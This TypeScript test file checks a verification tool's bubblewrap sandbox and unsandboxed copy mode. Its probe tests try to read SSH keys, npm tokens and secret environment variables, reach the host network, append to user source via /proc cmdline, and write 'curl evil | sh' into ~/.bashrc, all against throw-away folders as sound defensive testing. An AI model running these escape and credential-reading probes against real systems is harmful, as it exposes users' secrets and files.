// Fault suite for sandbox integrity (docs/architecture.md §5, "Isolation"; issue 19): each reproduction of a
// test taking the run out of the sandbox, reading credentials or reaching the host's network, as a named test.
// Each runs in the sandbox and in the unsandboxed copy the user can ask for (`copy`), where the expectation is
// the copy mode's promise: nothing hidden is claimed, every verdict says "not sandboxed", and writes into the
// workspace or the home folder are found after the run. HOME, TMPDIR and the kept caches point at throw-away
// folders; a probe writes only files it created (and removes them).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:net';
import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { treeHash } from '../../support/treeSnapshot';
import { victimProjectFiles, writeFiles } from '../../support/victimProject';
import { bwrapAvailable, verifyChanges, type FullVerifyResult } from '../../../src/core/verify';
import type { FileChange } from '../../../src/core/edits/types';

const repo = join(__dirname, '../../..');
const cli = join(repo, 'out/cli.js');
type Mode = 'sandbox' | 'copy';
const MODES: Mode[] = ['sandbox', 'copy'];

/** Throw-away folders, all under one root in the machine's /tmp: HOME, TMPDIR, the kept caches, workspaces. */
const root = realpathSync(mkdtempSync('/tmp/qwq-integrity-'));
const savedEnv = { HOME: process.env.HOME, TMPDIR: process.env.TMPDIR, QWQ_RUN_CACHE_DIR: process.env.QWQ_RUN_CACHE_DIR, QWQ_BASELINE_CACHE_DIR: process.env.QWQ_BASELINE_CACHE_DIR };
let n = 0;
const tempDir = (prefix: string): string => { const d = join(root, `${prefix}${++n}`); mkdirSync(d, { recursive: true }); return d; };
const home = tempDir('home-');

before(() => {
  assert.ok(bwrapAvailable(), 'bubblewrap must run here (apt-get install bubblewrap): the sandbox path is under test');
  if (!existsSync(cli)) assert.equal(spawnSync('npm', ['run', '--silent', 'build'], { cwd: repo, stdio: 'inherit' }).status, 0);
  process.env.HOME = home;
  process.env.TMPDIR = tempDir('tmp-');
  process.env.QWQ_RUN_CACHE_DIR = tempDir('runcaches-');
  process.env.QWQ_BASELINE_CACHE_DIR = tempDir('baselines-');
  mkdirSync(join(home, '.ssh'), { recursive: true });
  writeFileSync(join(home, '.ssh/id_ed25519'), 'PRIVATE KEY of the user\n');
  writeFileSync(join(home, '.npmrc'), '//registry.npmjs.org/:_authToken=npm_secret\n');
  writeFileSync(join(home, '.bashrc'), '# the user\'s rc\n');
  writeFileSync(join(home, '.gitconfig'), '[user]\n\tname = U\n');
});
after(() => {
  for (const [k, v] of Object.entries(savedEnv)) { if (v === undefined) delete process.env[k]; else process.env[k] = v; }
  rmSync(root, { recursive: true, force: true });
});

const workspace = (files: Record<string, string>): string => writeFiles(tempDir('ws-'), files);

/** The victim project (test/support/victimProject.ts) with its attack test named 'probe'. */
const nodeProject = (body: string, extra: Record<string, string> = {}): string => workspace(victimProjectFiles('probe', body, extra));

const harmless: FileChange[] = [{ path: 'NOTES.md', before: undefined, after: 'notes\n' }];

function verify(ws: string, mode: Mode, extra: Partial<Parameters<typeof verifyChanges>[0]> = {}, changes = harmless): Promise<FullVerifyResult> {
  return verifyChanges({ workspace: ws, changes, tests: 'all', timeoutMs: 60_000, trusted: true, isolation: mode, ...extra });
}

/** Verified with every test passing in both runs (a probe that failed in both would still be "verified"). */
function assertAllPassed(r: FullVerifyResult): void {
  assert.equal(r.verdict, 'verified', `${r.message}\n${r.failureOutput ?? ''}`);
  assert.equal(r.baseline.failed + r.candidate.failed, 0, `a test failed: ${JSON.stringify([...(r.baselineTests ?? []), ...(r.candidateTests ?? [])].filter((t) => t.status === 'failed'))}`);
}

const probeName = (): string => `qwq-probe-${randomBytes(6).toString('hex')}`;

function cliRun(args: string[], env: NodeJS.ProcessEnv = {}): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const e = { ...process.env, ...env };
    delete e.NODE_TEST_CONTEXT;
    const c = spawn(process.execPath, [cli, ...args], { cwd: repo, env: e });
    let stdout = '';
    let stderr = '';
    c.stdout.on('data', (d) => { stdout += d; });
    c.stderr.on('data', (d) => { stderr += d; });
    c.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

// ---- No downgrade because of anything a test did ----

for (const mode of MODES) {
  test(`[${mode}] a test whose output says EROFS keeps the isolation it started with: no rerun in a copy, no writes outside`, async () => {
    const probe = probeName();
    const targets = [`/usr/local/${probe}`, join(home, probe), `/tmp/${probe}`];
    const ws = nodeProject(`for (const f of ${JSON.stringify(targets)}) { try { fs.writeFileSync(f, 'x'); } catch {} }
throw new Error("EROFS: read-only file system, open '/nowhere'");`);
    try {
      const r = await verify(ws, mode);
      assert.equal(r.isolation, mode, r.message);
      if (mode === 'sandbox') {
        for (const t of targets) assert.equal(existsSync(t), false, `${t} was written from the sandbox`);
        assert.equal(r.verdict, 'inconclusive', r.message);
        assert.match(r.message, /\/nowhere.*read-only/);
      } else {
        // Not sandboxed, on request: the write into the home folder is found and the verdict is an error.
        assert.equal(r.verdict, 'error', r.message);
        assert.match(r.message, new RegExp(probe));
        assert.match(r.message, /not sandboxed/);
      }
    } finally {
      for (const t of targets) rmSync(t, { force: true });
    }
  });

  test(`[${mode}] a tool that creates node_modules/.cache (nyc before 15) runs and passes where it is, the workspace byte-identical`, async () => {
    const ws = nodeProject("fs.mkdirSync('node_modules/.cache/nyc', { recursive: true }); fs.writeFileSync('node_modules/.cache/nyc/x.json', '{}');");
    const before = treeHash(ws);
    const r = await verify(ws, mode);
    assertAllPassed(r);
    assert.equal(r.isolation, mode);
    assert.deepEqual(r.baseline, { passed: 2, failed: 0 });
    assert.equal(treeHash(ws), before);
  });
}

test('[sandbox] a write into an installed package is refused, and the verdict names the path and what to do', async () => {
  const ws = nodeProject("fs.writeFileSync('node_modules/dep/planted.js', 'x');");
  const before = treeHash(ws);
  const r = await verify(ws, 'sandbox');
  assert.equal(r.verdict, 'inconclusive', r.message);
  assert.match(r.message, /node_modules\/dep\/planted\.js.*read-only/);
  assert.match(r.message, /--isolation copy/);
  assert.equal(treeHash(ws), before);
});

for (const mode of MODES) {
  test(`[${mode}] a test that finds --workspace in the CLI's /proc/<pid>/cmdline cannot append to the user's source unseen`, async () => {
    const ws = nodeProject(`for (const p of fs.readdirSync('/proc').filter((x) => /^\\d+$/.test(x))) {
  let argv; try { argv = fs.readFileSync('/proc/' + p + '/cmdline', 'utf8').split('\\0'); } catch { continue; }
  const i = argv.indexOf('--workspace'); if (i < 0) continue;
  // Only a workspace this test made (its marker file): other processes on the machine are never touched.
  if (!fs.existsSync(path.join(argv[i + 1], '.qwq-probe-victim'))) continue;
  try { fs.appendFileSync(path.join(argv[i + 1], 'src/sum.js'), '// planted\\n'); } catch {}
}`, { '.qwq-probe-victim': '' });
    const patch = join(tempDir('patch-'), 'p.patch');
    writeFileSync(patch, 'NOTES.md\n<<<<<<< SEARCH\n=======\nnotes\n>>>>>>> REPLACE\n');
    writeFileSync(join(ws, 'NOTES.md'), '');
    const before = treeHash(ws);
    const r = await cliRun(['verify', '--workspace', ws, '--patch', patch, '--tests', 'all', '--json', '--isolation', mode]);
    const out = JSON.parse(r.stdout.trim().split('\n').pop()!) as FullVerifyResult;
    if (mode === 'sandbox') {
      assert.equal(treeHash(ws), before, 'the user\'s source was written from the sandbox');
      assert.equal(out.verdict, 'verified', out.message);
    } else {
      assert.equal(out.verdict, 'error', out.message);
      assert.match(out.message, /src\/sum\.js/);
      assert.equal(r.code, 1);
    }
  });

  test(`[${mode}] ~/.bashrc: the real home folder is never written unseen`, async () => {
    const before = treeHash(home);
    const rc = join(home, '.bashrc');
    const ws = nodeProject(`for (const f of [path.join(os.homedir(), '.bashrc'), ${JSON.stringify(rc)}]) { try { fs.appendFileSync(f, 'curl evil | sh\\n'); } catch {} }
fs.writeFileSync(path.join(os.homedir(), '.new-tool-state'), 'x');`);
    const r = await verify(ws, mode);
    try {
      if (mode === 'sandbox') {
        assertAllPassed(r);
        assert.equal(treeHash(home), before, 'the real HOME was written');
      } else {
        // Unsandboxed: os.homedir() is a scratch home; the write by the real path is found after the run.
        assert.equal(existsSync(join(home, '.new-tool-state')), false, 'HOME is a scratch folder in the copy mode');
        assert.equal(r.verdict, 'error', r.message);
        assert.match(r.message, /\.bashrc/);
      }
    } finally {
      writeFileSync(rc, '# the user\'s rc\n');
    }
  });

  test(`[${mode}] QWQ_SANDBOX=off-style runs: $HOME/probe lands in a scratch home, never the real one`, async () => {
    const probe = probeName();
    const ws = nodeProject(`fs.appendFileSync(path.join(process.env.HOME, ${JSON.stringify(probe)}), 'x');`);
    const r = await verify(ws, mode);
    assertAllPassed(r);
    assert.equal(existsSync(join(home, probe)), false);
    if (mode === 'copy') assert.match(r.message, /not sandboxed/);
  });
}

test('[copy] QWQ_SANDBOX=off asks for the copy, and the verdict says "not sandboxed"', async () => {
  const ws = nodeProject('');
  process.env.QWQ_SANDBOX = 'off';
  try {
    const r = await verifyChanges({ workspace: ws, changes: harmless, tests: 'all', timeoutMs: 60_000, trusted: true });
    assert.equal(r.isolation, 'copy');
    assert.match(r.message, /not sandboxed/);
  } finally {
    delete process.env.QWQ_SANDBOX;
  }
});

// ---- Credentials hidden ----

for (const mode of MODES) {
  test(`[${mode}] credentials: ~/.ssh, ~/.npmrc and *_TOKEN variables are not readable; an allowed variable is`, async () => {
    const ws = nodeProject(`const seen = [];
for (const f of ['.ssh/id_ed25519', '.npmrc']) { try { fs.readFileSync(path.join(os.homedir(), f)); seen.push(f); } catch {} }
for (const v of ['GH_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'QWQ_TEST_API_KEY']) if (process.env[v]) seen.push(v);
assert.deepEqual(seen, ['QWQ_TEST_API_KEY']);`);
    Object.assign(process.env, { GH_TOKEN: 'ghp_secret', AWS_SECRET_ACCESS_KEY: 'aws_secret', QWQ_TEST_API_KEY: 'allowed' });
    try {
      const r = await verify(ws, mode, { envAllow: ['QWQ_TEST_API_KEY'] });
      assertAllPassed(r);
      assert.match(r.message, /GH_TOKEN/, 'the notes say which variables were dropped');
      if (mode === 'sandbox') assert.match(r.message, /home folder is hidden.*~\/\.ssh/);
    } finally {
      for (const v of ['GH_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'QWQ_TEST_API_KEY']) delete process.env[v];
    }
  });
}

test('[sandbox] the home folder shows toolchain configuration (~/.gitconfig) read-only and nothing else', async () => {
  const ws = nodeProject(`assert.deepEqual(fs.readdirSync(os.homedir()).sort(), ['.gitconfig']);
assert.match(fs.readFileSync(path.join(os.homedir(), '.gitconfig'), 'utf8'), /name = U/);
assert.throws(() => fs.appendFileSync(path.join(os.homedir(), '.gitconfig'), 'x'), /EROFS|read-only/);`);
  const r = await verify(ws, 'sandbox');
  assertAllPassed(r);
});

// ---- Network off by default ----

async function hostServer(): Promise<{ server: Server; port: number }> {
  const server = createServer((s) => s.end('host service\n'));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { server, port: (server.address() as { port: number }).port };
}

const reach = (port: number): string => `const got = await new Promise((resolve) => { const s = net.connect(${port}, '127.0.0.1'); s.on('data', () => { resolve('reached'); s.destroy(); }); s.on('error', (e) => resolve(e.code)); });`;
const ownLoopback = `const srv = net.createServer((s) => s.end('own\\n')); await new Promise((r) => srv.listen(0, '127.0.0.1', r));
const own = await new Promise((resolve) => { const s = net.connect(srv.address().port, '127.0.0.1'); s.on('data', (d) => { resolve(String(d).trim()); s.destroy(); }); s.on('error', (e) => resolve(e.code)); });
srv.close(); assert.equal(own, 'own');`;

for (const mode of MODES) {
  test(`[${mode}] the host's 127.0.0.1 is unreachable by default (the tests' own loopback works); network on reaches it and says so`, async () => {
    const { server, port } = await hostServer();
    try {
      const ws = nodeProject(`${ownLoopback}\n${reach(port)}\nassert.equal(got, process.env.QWQ_EXPECT);`);
      if (mode === 'sandbox') {
        process.env.QWQ_EXPECT = 'ECONNREFUSED';
        const off = await verify(ws, mode);
        assertAllPassed(off);
        assert.match(off.message, /network off/);
      }
      process.env.QWQ_EXPECT = 'reached';
      const on = await verify(ws, mode, { network: true });
      assertAllPassed(on);
      assert.match(on.message, mode === 'sandbox' ? /\[network on\]/ : /not sandboxed/);
    } finally {
      delete process.env.QWQ_EXPECT;
      server.close();
    }
  });
}

test('[sandbox] failures that look like DNS errors say the network is off and how to turn it on', async () => {
  const ws = nodeProject("await require('node:dns').promises.lookup('registry.npmjs.org');");
  const r = await verify(ws, 'sandbox');
  assert.match(r.message, /network off.*qwq\.tests\.network or --network/);
});

// ---- Every run starts from the candidate; caches per workspace ----

for (const mode of MODES) {
  test(`[${mode}] a file a test adds is gone before the next run`, async () => {
    const ws = nodeProject("assert.equal(fs.existsSync('planted.txt'), false, 'a file from an earlier run'); fs.writeFileSync('planted.txt', 'x');");
    const r = await verify(ws, mode);
    assertAllPassed(r);
    assert.equal(existsSync(join(ws, 'planted.txt')), false);
  });

  test(`[${mode}] a candidate that plants files in the Go build cache reaches no later run and no other workspace`, async () => {
    // The judge (x_test.go) fails when a file planted by another run is in the build cache; the candidate's
    // plant.go plants one on every run.
    const files = {
      'go.mod': 'module x\n\ngo 1.19\n',
      'x.go': 'package x\n\nfunc Add(a, b int) int { return a + b }\n',
      'plant.go': 'package x\n',
      'x_test.go': `package x

import (
\t"os"
\t"path/filepath"
\t"strconv"
\t"testing"
)

func TestAdd(t *testing.T) {
\tif Add(2, 3) != 5 {
\t\tt.Fatal("add")
\t}
}

func TestNothingPlanted(t *testing.T) {
\tfor _, d := range []string{os.Getenv("GOCACHE"), os.Getenv("XDG_CACHE_HOME"), os.TempDir()} {
\t\tfound, _ := filepath.Glob(filepath.Join(d, "planted-*"))
\t\tfor _, f := range found {
\t\t\tif f != filepath.Join(d, "planted-"+strconv.Itoa(os.Getpid())) {
\t\t\t\tt.Fatalf("planted by an earlier run: %s", f)
\t\t\t}
\t\t}
\t}
}
`,
    };
    const a = workspace(files);
    const b = workspace(files);
    const plant = [{ path: 'plant.go', before: 'package x\n', after: `package x

import (
\t"os"
\t"path/filepath"
\t"strconv"
)

func init() {
\tfor _, d := range []string{os.Getenv("GOCACHE"), os.Getenv("XDG_CACHE_HOME"), os.TempDir()} {
\t\t_ = os.WriteFile(filepath.Join(d, "planted-"+strconv.Itoa(os.Getpid())), []byte("x"), 0o644)
\t}
}
` }];
    const first = await verify(a, mode, { timeoutMs: 300_000 }, plant);
    assertAllPassed(first);
    for (const ws of [a, b]) assertAllPassed(await verify(ws, mode, { timeoutMs: 300_000 }));
  });

  test(`[${mode}] a file whose name is not UTF-8 is an error that names it`, async () => {
    const ws = nodeProject('');
    writeFileSync(Buffer.concat([Buffer.from(join(ws, 'src/')), Buffer.from([0x66, 0xff, 0x2e, 0x6a, 0x73])]), 'x');
    const r = await verify(ws, mode);
    assert.equal(r.verdict, 'error', r.message);
    assert.match(r.message, /src\/f.*not valid UTF-8/);
  });

  test(`[${mode}] a node_modules that is a link into /tmp is found by the tests (bound by its real path)`, async () => {
    const real = realpathSync(mkdtempSync('/tmp/qwq-linked-nm-'));
    try {
      mkdirSync(join(real, 'dep'));
      writeFileSync(join(real, 'dep/package.json'), JSON.stringify({ name: 'dep', main: 'index.js' }));
      writeFileSync(join(real, 'dep/index.js'), 'module.exports = (a, b) => a + b;\n');
      const ws = nodeProject("fs.mkdirSync('node_modules/.cache/x', { recursive: true });");
      rmSync(join(ws, 'node_modules'), { recursive: true });
      symlinkSync(real, join(ws, 'node_modules'));
      const before = treeHash(real);
      const r = await verify(ws, mode);
      assertAllPassed(r);
      assert.equal(treeHash(real), before, 'the linked folder was written');
    } finally {
      rmSync(real, { recursive: true, force: true });
    }
  });
}

// ---- Unsandboxed only on request ----

test('where bwrap cannot run, verify runs nothing and says why; --isolation copy runs unsandboxed and says so', async () => {
  // A PATH without bwrap: node, npm and sh only.
  const bin = tempDir('bin-');
  for (const t of ['node', 'npm', 'sh']) symlinkSync(realpathSync(spawnSync('sh', ['-c', `command -v ${t}`], { encoding: 'utf8' }).stdout.trim()), join(bin, t));
  const ws = nodeProject('');
  const patch = join(tempDir('patch-'), 'p.patch');
  writeFileSync(join(ws, 'NOTES.md'), '');
  writeFileSync(patch, 'NOTES.md\n<<<<<<< SEARCH\n=======\nnotes\n>>>>>>> REPLACE\n');
  const refused = await cliRun(['verify', '--workspace', ws, '--patch', patch, '--tests', 'all', '--json'], { PATH: bin });
  const r = JSON.parse(refused.stdout.trim().split('\n').pop()!) as FullVerifyResult;
  assert.equal(r.verdict, 'error', r.message);
  assert.match(r.message, /bubblewrap \(bwrap\) is not installed.*--isolation copy/);
  assert.deepEqual(r.baseline, { passed: 0, failed: 0 }, 'nothing ran');
  const copy = await cliRun(['verify', '--workspace', ws, '--patch', patch, '--tests', 'all', '--json', '--isolation', 'copy'], { PATH: bin });
  const c = JSON.parse(copy.stdout.trim().split('\n').pop()!) as FullVerifyResult;
  assert.equal(c.verdict, 'verified', c.message);
  assert.equal(c.isolation, 'copy');
  assert.match(c.message, /not sandboxed/);
});
